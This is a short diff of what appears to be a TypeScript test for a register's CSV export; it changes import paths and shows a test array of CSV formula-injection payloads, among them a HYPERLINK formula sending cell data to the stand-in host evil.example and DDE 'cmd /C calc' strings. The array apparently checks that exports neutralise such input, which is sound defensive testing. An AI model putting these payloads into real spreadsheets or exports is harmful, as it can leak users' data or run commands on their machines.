@@ -7,8 +7,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { cooperations } from '@/db/schema';
 import { seedReferenceData } from '@/db/seed/reference';
 import { createCooperation } from '@/db/queries/cooperations';
-import { publicRegisterCsv, registerCsv } from '@/lib/register/csv';
-import { createTestDb, testDatabaseKind, type TestDb } from '@/lib/testing/db';
+import { publicRegisterCsv, registerCsv } from '@/lib/pure/register/csv';
+import { createTestDb, testDatabaseKind, type TestDb } from '@/testing/db';
 import { publicRegisterRows, registerRows } from './register';
 
 const PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"Se vedtaket")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
